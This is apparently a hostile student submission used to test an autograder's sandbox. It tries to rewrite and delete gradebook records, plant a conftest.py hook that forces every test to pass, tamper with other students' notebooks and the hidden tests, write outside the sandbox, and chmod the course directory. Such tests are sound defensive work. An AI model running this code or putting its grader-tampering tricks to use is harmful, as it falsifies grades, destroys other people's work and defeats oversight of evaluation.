"""Write outside the sandbox: the gradebook (file and SQL), hidden tests (a conftest.py that would
run in the trusted pytest), the source notebook, other students' and its own submission, the
repository, the host /tmp, and relative paths.

category: escape
"""
import glob
import os
import sqlite3

import numpy as np

MARK = "__MARK__"
COURSE = "__COURSE__"
REPO = "__REPO__"
API = "__API__".split(",")
_EVIL_CONFTEST = "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    outcome = yield\n    outcome.get_result().outcome = 'passed'\n"
_report = []


def _try(what, action):
    try:
        action()
        _report.append(f"WROTE {what}")
    except Exception as exc:  # noqa: BLE001 - we want to keep trying
        _report.append(f"refused {what}: {type(exc).__name__}")


def _append(path, data=b"\n# " + MARK.encode() + b"\n"):
    with open(path, "ab") as f:
        f.write(data)


def _sql():
    con = sqlite3.connect(f"{COURSE}/gradebook.db", timeout=1)
    con.execute("UPDATE grade SET manual_score = 1000")
    con.execute("DELETE FROM submitted_assignment")
    con.commit()


_try("gradebook sql", _sql)
_try("gradebook file", lambda: _append(f"{COURSE}/gradebook.db", b"garbage" * 100))
for _path in glob.glob(f"{COURSE}/grading_tests/*/"):
    _try(f"conftest {_path}", lambda: open(os.path.join(_path, "conftest.py"), "w").write(_EVIL_CONFTEST))
for _path in glob.glob(f"{COURSE}/source/*/*.ipynb") + glob.glob(f"{COURSE}/submitted/*/*/*.ipynb") + glob.glob(f"{COURSE}/grading_tests/*/*.py"):
    _try(_path, lambda: _append(_path))
for _path in (f"{COURSE}/{MARK}", f"{COURSE}/autograded/{MARK}", f"{REPO}/{MARK}", f"/tmp/{MARK}",
              f"/var/tmp/{MARK}", f"/dev/shm/{MARK}", f"../{MARK}", f"../../{MARK}", f"../../../{MARK}"):
    _try(_path, lambda: open(_path, "w").write(MARK))
_try("conftest in cwd", lambda: open("conftest.py", "w").write(_EVIL_CONFTEST))
_try("chmod course", lambda: os.chmod(COURSE, 0o777))
print("ATTACK", len([r for r in _report if r.startswith("WROTE")]), "of", len(_report), "writes succeeded:",
      "; ".join(r for r in _report if r.startswith("WROTE"))[:300])
for _name in API:
    globals()[_name] = lambda *args, **kwargs: np.zeros(1)
